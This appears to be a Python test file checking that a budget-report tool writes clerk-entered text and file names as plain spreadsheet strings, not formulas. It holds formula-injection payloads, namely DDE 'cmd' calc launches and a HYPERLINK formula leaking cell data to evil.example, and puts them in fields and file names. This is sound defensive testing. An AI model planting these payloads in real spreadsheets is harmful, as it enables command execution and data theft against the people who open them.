"""Spreadsheet formula injection: text a clerk or a file name brings in (a unit name, a reason, a
statement, a file name) starting with = + - @ is written as a string cell in every XLSX we write, never
as a formula; its value is unchanged.  Each writer is checked by reopening the file it wrote."""

from __future__ import annotations

import os
import subprocess
import sys
from decimal import Decimal
from pathlib import Path

import pytest
from openpyxl import Workbook, load_workbook

from juesuan.core import codec
from juesuan.formats.workbook.cells import append_text, as_text

REPO = Path(__file__).resolve().parents[2]
EXAMPLE_YAML = REPO / "examples" / "yulin-2024.yaml"
PAYLOADS = ("=cmd|' /C calc'!A0", '=HYPERLINK("http://evil.example/?"&A1,"点击")', "+1+cmd|' /C calc'!A0",
            "-2+3+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0")


def formulas(path: Path) -> list[str]:
    """Every formula cell of the workbook, as sheet!cell."""
    wb = load_workbook(path)
    return [f"{ws.title}!{c.coordinate}" for ws in wb.worksheets for row in ws.iter_rows() for c in row
            if c.data_type == "f"]


def text_cells(path: Path, texts: tuple[str, ...]) -> dict[str, list[str]]:
    """The data type of every cell holding one of `texts` (by text)."""
    found: dict[str, list[str]] = {}
    for ws in load_workbook(path).worksheets:
        for row in ws.iter_rows():
            for c in row:
                if c.value in texts:
                    found.setdefault(c.value, []).append(c.data_type)
    return found


def juesuan(*args: str, cwd: Path) -> subprocess.CompletedProcess:
    return subprocess.run([sys.executable, "-m", "juesuan", *args], capture_output=True, text=True, encoding="utf-8",
                          cwd=cwd, timeout=300, env={**os.environ, "COLUMNS": "160", "PYTHONIOENCODING": "utf-8"})


@pytest.mark.parametrize("payload", PAYLOADS)
def test_helper_keeps_text_as_text(tmp_path, payload):
    wb = Workbook()
    ws = wb.active
    append_text(ws, [payload, Decimal("-1.5"), None])
    as_text(ws.cell(row=2, column=1, value=payload))
    path = tmp_path / "t.xlsx"
    wb.save(path)
    ws = load_workbook(path).active
    for ref in ("A1", "A2"):
        assert ws[ref].data_type == "s" and ws[ref].value == payload and ws[ref].quotePrefix
    assert ws["B1"].data_type == "n" and ws["B1"].value == -1.5 and not ws["B1"].quotePrefix  # numbers stay numbers


def payload_model():
    m = codec.read_path(EXAMPLE_YAML)
    m.unit.name = PAYLOADS[0]
    m.reasons["total_change"] = PAYLOADS[1]
    m.reasons["general_budget_variance"] = PAYLOADS[2]
    m.other_notes = [PAYLOADS[3], PAYLOADS[4]]
    return m


def test_built_workbook_has_no_formula(tmp_path):
    from juesuan.formats.workbook.read import read_workbook
    from juesuan.formats.workbook.write import write_workbook

    path = tmp_path / "单位.xlsx"
    write_workbook(payload_model(), path, embed_model=True)
    assert formulas(path) == []
    kinds = text_cells(path, PAYLOADS)
    assert set(kinds) == set(PAYLOADS) and all(k == ["s"] for k in kinds.values()), kinds
    back = read_workbook(path)  # read back unchanged (no apostrophe added)
    assert back.unit.name == PAYLOADS[0] and back.reasons["total_change"] == PAYLOADS[1]
    assert back.other_notes[:2] == [PAYLOADS[3], PAYLOADS[4]]


def test_marked_copy_has_no_formula(tmp_path):
    from juesuan.formats.workbook.write import write_workbook

    m = payload_model()
    m.table("T03").row("2080108").values["total"] = Decimal("426.78")  # an error to mark
    m.reasons.pop("general_budget_variance")  # a missing reason (a not-checked / warning row)
    src = tmp_path / "单位.xlsx"
    write_workbook(m, src)
    r = juesuan("check", str(src), "--mark", "标注.xlsx", cwd=tmp_path)
    assert r.returncode == 1, r.stdout + r.stderr
    out = tmp_path / "标注.xlsx"
    assert formulas(out) == []
    rows = list(load_workbook(out)["校验结果"].iter_rows(min_row=2))
    assert rows and all(c.data_type in ("s", "n") for row in rows for c in row if c.value is not None)


def test_audit_problem_list_has_no_formula(tmp_path):
    """`audit --xlsx`: the file name is on every row; a name starting with = stays text."""
    seed = REPO / "tests" / "data" / "seed"
    txt = next(p for p in sorted(seed.iterdir()) if p.suffix == ".txt")
    d = tmp_path / "reports"
    d.mkdir()
    name = "=cmd|' C calc'!A0.txt"
    (d / name).write_text(txt.read_text(encoding="utf-8"), encoding="utf-8")
    (d / "@SUM(1).txt").write_text("不是报告", encoding="utf-8")
    out = tmp_path / "问题清单.xlsx"
    juesuan("audit", name, "@SUM(1).txt", "--brief", "--xlsx", str(out), cwd=d)
    assert out.exists()
    assert formulas(out) == []
    wb = load_workbook(out)
    sources = [c for c in wb["问题清单"]["A"][1:]]
    assert sources and all(c.value == name and c.data_type == "s" for c in sources)
    assert [c.value for c in wb["汇总"]["A"][1:]] == [name, "@SUM(1).txt"]
